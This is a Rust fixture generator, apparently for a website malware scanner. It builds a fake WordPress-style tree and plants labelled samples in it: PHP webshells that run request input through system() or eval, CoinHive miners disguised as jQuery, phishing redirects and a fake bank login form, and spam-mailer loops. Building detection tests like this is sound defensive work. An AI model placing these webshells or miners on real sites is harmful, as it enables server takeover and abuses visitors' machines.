//! File trees: a benign CMS-shaped site, planted samples and random edits.

use std::collections::BTreeSet;
use std::fs;
use std::io;
use std::path::Path;

use hostguard::signatures::ThreatClass;
use rand::seq::SliceRandom;
use rand::Rng;
use rand_chacha::ChaCha8Rng;

pub const BENIGN_FILES: usize = 500;

pub(crate) const WORDS: &[&str] = &[
    "post", "page", "menu", "widget", "author", "comment", "archive", "search", "gallery", "media", "theme",
    "option", "setting", "cache", "query", "term", "category", "tag", "feed", "sidebar", "header", "footer",
    "layout", "block", "panel", "notice", "user", "profile", "image", "thumbnail", "excerpt", "title", "content",
    "link", "button", "form", "field", "label", "price", "cart", "order", "product", "review", "rating",
];

const VERBS: &[&str] = &["get", "render", "build", "register", "load", "format", "prepare", "filter", "sanitize", "print"];

const PROSE: &[&str] = &[
    "This component keeps the markup predictable across themes.",
    "Values are escaped before output.",
    "The defaults can be changed from the settings screen.",
    "Results are cached for one hour to keep page loads quick.",
    "Editors see a preview while the page is being edited.",
    "Nothing is printed when the list is empty.",
    "See the changelog for upgrade notes.",
    "Older browsers fall back to the plain layout.",
];

fn word(rng: &mut ChaCha8Rng) -> &'static str {
    WORDS.choose(rng).expect("nonempty")
}

fn ident(rng: &mut ChaCha8Rng) -> String {
    format!("{}_{}_{}", VERBS.choose(rng).expect("nonempty"), word(rng), word(rng))
}

fn php_file(rng: &mut ChaCha8Rng, pkg: &str) -> String {
    let mut s = format!(
        "<?php\n/**\n * {} {} helpers.\n *\n * @package {pkg}\n */\n\nif ( ! defined( 'ABSPATH' ) ) {{\n\texit;\n}}\n\n",
        word(rng),
        word(rng)
    );
    for _ in 0..rng.gen_range(1..5) {
        let f = ident(rng);
        let (k1, k2) = (word(rng), word(rng));
        let n: u32 = rng.gen_range(1..100);
        s.push_str(&format!(
            "/**\n * {}\n */\nfunction {pkg}_{f}( $args = array() ) {{\n\t$defaults = array( '{k1}' => '{}', '{k2}' => {n} );\n\t$args     = wp_parse_args( $args, $defaults );\n\t$output   = '<div class=\"{pkg}-{k1}\">' . esc_html( $args['{k1}'] ) . '</div>';\n\tif ( $args['{k2}'] > {} ) {{\n\t\t$output .= '<span>' . intval( $args['{k2}'] ) . '</span>';\n\t}}\n\treturn apply_filters( '{pkg}_{f}', $output, $args );\n}}\n\n",
            PROSE.choose(rng).expect("nonempty"),
            word(rng),
            rng.gen_range(0..50),
        ));
    }
    if rng.gen_bool(0.3) {
        s.push_str(&format!(
            "add_action( 'init', '{pkg}_{}' );\nadd_filter( 'the_content', '{pkg}_{}', {} );\n",
            ident(rng),
            ident(rng),
            rng.gen_range(1..20)
        ));
    }
    s
}

fn js_file(rng: &mut ChaCha8Rng, minified: bool) -> String {
    let mut parts = Vec::new();
    for _ in 0..rng.gen_range(2..7) {
        let (a, b) = (word(rng), word(rng));
        parts.push(format!(
            "function {a}{}(el,opts){{var o=Object.assign({{delay:{},selector:'.{b}'}},opts||{{}});var n=el.querySelectorAll(o.selector);for(var i=0;i<n.length;i++){{n[i].classList.toggle('is-{a}');}}return n.length;}}",
            b.to_uppercase(),
            rng.gen_range(0..500)
        ));
    }
    if minified {
        format!("/*! {} v{}.{}.{} | MIT */\n{}\n", word(rng), rng.gen_range(1..4), rng.gen_range(0..10), rng.gen_range(0..10), parts.join(";"))
    } else {
        let mut s = String::from("(function () {\n\t'use strict';\n");
        for p in parts {
            s.push('\t');
            s.push_str(&p.replace(";", ";\n\t\t"));
            s.push('\n');
        }
        s.push_str("\tdocument.addEventListener('DOMContentLoaded', function () {\n\t\tvar root = document.body;\n\t\tif (root) { root.classList.add('js'); }\n\t});\n})();\n");
        s
    }
}

fn css_file(rng: &mut ChaCha8Rng) -> String {
    let mut s = String::new();
    for _ in 0..rng.gen_range(3..12) {
        s.push_str(&format!(
            ".{}-{} {{\n\tmargin: {}px 0;\n\tpadding: {}px;\n\tcolor: #{:06x};\n}}\n",
            word(rng),
            word(rng),
            rng.gen_range(0..40),
            rng.gen_range(0..20),
            rng.gen_range(0..0xffffff)
        ));
    }
    s
}

fn html_file(rng: &mut ChaCha8Rng) -> String {
    let title = format!("{} {}", word(rng), word(rng));
    let mut body = String::new();
    for _ in 0..rng.gen_range(1..6) {
        body.push_str(&format!("<p>{}</p>\n", PROSE.choose(rng).expect("nonempty")));
    }
    format!(
        "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n<title>{title}</title>\n<link rel=\"stylesheet\" href=\"style.css\">\n</head>\n<body>\n<h1>{title}</h1>\n{body}<a href=\"/{}/\">{}</a>\n</body>\n</html>\n",
        word(rng),
        word(rng)
    )
}

fn text_file(rng: &mut ChaCha8Rng) -> String {
    let mut s = format!("=== {} {} ===\n\n", word(rng), word(rng));
    for _ in 0..rng.gen_range(2..10) {
        s.push_str(PROSE.choose(rng).expect("nonempty"));
        s.push('\n');
    }
    s
}

fn image_file(rng: &mut ChaCha8Rng) -> Vec<u8> {
    let magic: &[u8] = match rng.gen_range(0..3) {
        0 => b"\x89PNG\r\n\x1a\n",
        1 => b"\xff\xd8\xff\xe0\x00\x10JFIF\x00",
        _ => b"GIF89a",
    };
    let mut v = magic.to_vec();
    let n = rng.gen_range(200..3000);
    v.extend((0..n).map(|_| rng.gen::<u8>()));
    v
}

/// Writes [`BENIGN_FILES`] files under `root` and returns their relative
/// paths, sorted.
pub fn benign_tree(root: &Path, seed: u64) -> io::Result<Vec<String>> {
    let mut rng = crate::rng(seed);
    let plugins: Vec<String> = (0..6).map(|i| format!("{}-{}{i}", word(&mut rng), word(&mut rng))).collect();
    let theme = format!("{}-theme", word(&mut rng));
    let mut paths = BTreeSet::new();
    let fixed = [
        "index.php".to_string(),
        "wp-login.php".into(),
        "wp-config-sample.php".into(),
        "readme.html".into(),
        "license.txt".into(),
        format!("wp-content/themes/{theme}/functions.php"),
        format!("wp-content/themes/{theme}/style.css"),
        "wp-includes/js/jquery/jquery.min.js".into(),
    ];
    paths.extend(fixed);
    while paths.len() < BENIGN_FILES {
        let dir = match rng.gen_range(0..10) {
            0..=2 => format!("wp-includes/{}", word(&mut rng)),
            3 => format!("wp-admin/{}", ["includes", "css", "js", "network"].choose(&mut rng).expect("nonempty")),
            4..=6 => format!("wp-content/plugins/{}", plugins.choose(&mut rng).expect("nonempty")),
            7 => format!("wp-content/themes/{theme}/{}", ["inc", "template-parts", "js", "css"].choose(&mut rng).expect("nonempty")),
            _ => format!("wp-content/uploads/20{}/{:02}", rng.gen_range(19..25), rng.gen_range(1..13)),
        };
        let ext = if dir.starts_with("wp-content/uploads") {
            ["jpg", "png", "gif", "pdf"].choose(&mut rng).expect("nonempty")
        } else {
            ["php", "php", "php", "js", "css", "html", "txt", "png", "json"].choose(&mut rng).expect("nonempty")
        };
        paths.insert(format!("{dir}/{}-{}.{ext}", word(&mut rng), rng.gen_range(0..1000)));
    }
    for rel in &paths {
        let full = root.join(rel);
        fs::create_dir_all(full.parent().expect("relative path has a parent"))?;
        let ext = rel.rsplit('.').next().unwrap_or("");
        let content: Vec<u8> = match ext {
            "php" => php_file(&mut rng, "site").into_bytes(),
            "js" => js_file(&mut rng, rel.ends_with(".min.js")).into_bytes(),
            "css" => css_file(&mut rng).into_bytes(),
            "html" => html_file(&mut rng).into_bytes(),
            "txt" => text_file(&mut rng).into_bytes(),
            "json" => format!(
                "{{\"name\": \"{}\", \"version\": \"{}.{}.0\", \"requires\": \"{}\"}}\n",
                word(&mut rng),
                rng.gen_range(1..5),
                rng.gen_range(0..20),
                word(&mut rng)
            )
            .into_bytes(),
            "pdf" => {
                let mut v = b"%PDF-1.4\n".to_vec();
                v.extend((0..rng.gen_range(100..800)).map(|_| rng.gen::<u8>()));
                v
            }
            _ => image_file(&mut rng),
        };
        fs::write(&full, content)?;
    }
    Ok(paths.into_iter().collect())
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PlantedSample {
    pub rel_path: String,
    pub class: ThreatClass,
    /// True when malicious code was added to a file that already existed.
    pub injected: bool,
}

fn token(rng: &mut ChaCha8Rng, n: usize) -> String {
    const A: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789";
    (0..n).map(|_| A[rng.gen_range(0..A.len())] as char).collect()
}

/// Payload for each planted slot: (class, new relative path or `None` to
/// inject into an existing file of the given extension, content).
fn planted_payloads(rng: &mut ChaCha8Rng) -> Vec<(ThreatClass, Option<String>, &'static str, String)> {
    use ThreatClass::*;
    let v = token(rng, 6);
    let k = token(rng, 32);
    vec![
        (Webshell, Some("wp-content/uploads/2024/02/functions.php".into()), "php",
            format!("<?php\n/* {v} */\n@eval(base64_decode('ZWNobyAie3Z9Ijs='));\n")),
        (Webshell, Some("wp-includes/libraries.php".into()), "php",
            format!("<?php\n${v} = gzinflate(base64_decode('80jNycnXUQjPL8pJUQQA'));\n")),
        (Webshell, Some(format!("wp-content/plugins/cache-{v}/cache.php")), "php",
            "<?php if (isset($_POST['c'])) { @system($_POST['c']); }\n".into()),
        (Webshell, None, "php",
            format!("\n<?php /* FilesMan */ $default_action = 'FilesMan'; ${v} = 1; ?>\n")),
        (Webshell, Some(format!("wp-content/uploads/2023/11/{v}.php")), "php",
            format!("<?php $f{v} = $_REQUEST['f']; $f{v}($_GET['a']); ?>\n")),
        (Miner, Some(format!("wp-content/themes/{v}/js/jquery.min.js")), "js",
            format!("/*! jQuery v3.6.0 */\nvar _m=new CoinHive.Anonymous('{k}',{{throttle:0.3}});_m.start();\n")),
        (Miner, None, "php",
            "\n<script src=\"https://coinhive.com/lib/coinhive.min.js\"></script>\n".into()),
        (Miner, Some(format!("wp-content/plugins/{v}/assets/worker.js")), "js",
            "self.importScripts('cryptonight.wasm');postMessage({ready:true});\n".into()),
        (Miner, None, "html",
            "\n<script src=\"https://www.coin-hive.com/lib/c.js\"></script>\n".into()),
        (Miner, Some(format!("wp-includes/js/{v}.js")), "js",
            format!("var miner = new CoinImp.Anonymous('{k}', {{threads: 4}});\n")),
        (PhishingRedirect, Some(format!("wp-content/uploads/2024/01/{v}.html")), "html",
            "<html><head><meta http-equiv=\"refresh\" content=\"0; url=https://login-example.test/\"></head></html>\n".into()),
        (PhishingRedirect, None, "js",
            format!("\nwindow.location.href = \"https://{v}.example/paypal/verify-account\";\n")),
        (PhishingRedirect, Some(format!("wp-content/uploads/2024/01/{v}/signin.html")), "html",
            "<h2>Bank of America</h2><form><label>Online ID</label><input name=u><label>Passcode</label><input name=p type=password></form>\n".into()),
        (PhishingRedirect, Some(format!("wp-content/plugins/{v}/redirect.js")), "js",
            "top.location = 'https://appleid.example-verify.test/';\n".into()),
        (PhishingRedirect, None, "html",
            "\n<div class=\"popup\">Warning: your computer is running slow. Download PC Fixer now.</div>\n".into()),
        (SpamMailer, Some(format!("wp-content/uploads/{v}-mailer.php")), "php",
            "<?php $list = explode(\"\\n\", $_POST['emaillist']); echo count($list);\n".into()),
        (SpamMailer, Some("wp-content/plugins/contact-tools/send.php".into()), "php",
            "<?php foreach ($targets as $t) { $ok = mail($t, $subject, $body, $headers); }\n".into()),
        (SpamMailer, Some(format!("wp-content/uploads/2022/05/{v}.php")), "php",
            "<?php $n = 0; while ($n < 500) { @mail($rcpt[$n], 'Offer', $msg); $n++; }\n".into()),
        (SpamMailer, None, "php",
            "\n<?php $to = $_REQUEST['to_list']; ?>\n".into()),
        (SpamMailer, Some(format!("wp-admin/includes/{v}.php")), "php",
            "<?php $n = count($r); for ($i = 0; $i < $n; $i++) { mail($r[$i], $s, $b); }\n".into()),
    ]
}

/// Plants 20 samples (5 each of webshell, miner, phishing redirect and spam
/// mailer) into a tree made by [`benign_tree`]. Some are new files, some are
/// appended to existing ones.
pub fn plant_samples(root: &Path, benign: &[String], seed: u64) -> io::Result<Vec<PlantedSample>> {
    let mut rng = crate::rng(seed ^ 0x5eed_0f_ba5e);
    let mut used = BTreeSet::new();
    let mut out = Vec::new();
    for (class, path, ext, content) in planted_payloads(&mut rng) {
        let (rel, injected) = match path {
            Some(p) => (p, false),
            None => {
                let candidates: Vec<&String> = benign
                    .iter()
                    .filter(|p| p.ends_with(&format!(".{ext}")) && !used.contains(*p) && !p.ends_with(".min.js"))
                    .collect();
                let pick = (*candidates.choose(&mut rng).expect("benign tree has files of every type")).clone();
                (pick, true)
            }
        };
        assert!(used.insert(rel.clone()), "planted path reused: {rel}");
        let full = root.join(&rel);
        fs::create_dir_all(full.parent().expect("relative path has a parent"))?;
        if injected {
            let mut existing = fs::read(&full)?;
            existing.extend_from_slice(content.as_bytes());
            fs::write(&full, existing)?;
        } else {
            fs::write(&full, content)?;
        }
        out.push(PlantedSample {
            rel_path: rel,
            class,
            injected,
        });
    }
    Ok(out)
}

#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct MutationLedger {
    pub modified: BTreeSet<String>,
    pub added: BTreeSet<String>,
    pub removed: BTreeSet<String>,
}

/// Applies `k` content edits, `j` new files and `m` deletions to distinct
/// files drawn from `existing`.
pub fn mutate_tree(
    root: &Path,
    existing: &[String],
    rng: &mut ChaCha8Rng,
    k: usize,
    j: usize,
    m: usize,
) -> io::Result<MutationLedger> {
    assert!(k + m <= existing.len(), "not enough files to mutate");
    let mut picks: Vec<&String> = existing.iter().collect();
    picks.shuffle(rng);
    let mut ledger = MutationLedger::default();
    for rel in &picks[..k] {
        let full = root.join(rel);
        let mut bytes = fs::read(&full)?;
        match rng.gen_range(0..3) {
            0 => bytes.push(b'\n'),
            1 if !bytes.is_empty() => {
                let i = rng.gen_range(0..bytes.len());
                bytes[i] ^= 1 << rng.gen_range(0..8);
            }
            _ => bytes.truncate(bytes.len() / 2),
        }
        if bytes == fs::read(&full)? {
            bytes.push(b'#');
        }
        fs::write(&full, bytes)?;
        ledger.modified.insert((*rel).clone());
    }
    for rel in &picks[k..k + m] {
        fs::remove_file(root.join(rel))?;
        ledger.removed.insert((*rel).clone());
    }
    while ledger.added.len() < j {
        let dir = existing[rng.gen_range(0..existing.len())]
            .rsplit_once('/')
            .map_or(String::new(), |(d, _)| format!("{d}/"));
        let rel = format!("{dir}added-{}.php", token(rng, 8));
        if existing.contains(&rel) || ledger.added.contains(&rel) {
            continue;
        }
        fs::write(root.join(&rel), format!("<?php // {}\n", token(rng, 16)))?;
        ledger.added.insert(rel);
    }
    Ok(ledger)
}

/// `n` files of random size and content with random permission bits, for
/// round-trip tests. Returns relative paths.
pub fn random_files(root: &Path, n: usize, rng: &mut ChaCha8Rng) -> io::Result<Vec<String>> {
    let mut out = Vec::new();
    for i in 0..n {
        let rel = format!("d{}/f{i}-{}.bin", i % 7, token(rng, 5));
        let full = root.join(&rel);
        fs::create_dir_all(full.parent().expect("has parent"))?;
        let len = match rng.gen_range(0..4) {
            0 => 0,
            1 => rng.gen_range(1..64),
            _ => rng.gen_range(64..20_000),
        };
        let bytes: Vec<u8> = (0..len).map(|_| rng.gen()).collect();
        fs::write(&full, bytes)?;
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            let mode = [0o644, 0o600, 0o640, 0o755, 0o444][rng.gen_range(0..5)];
            fs::set_permissions(&full, fs::Permissions::from_mode(mode))?;
        }
        out.push(rel);
    }
    Ok(out)
}
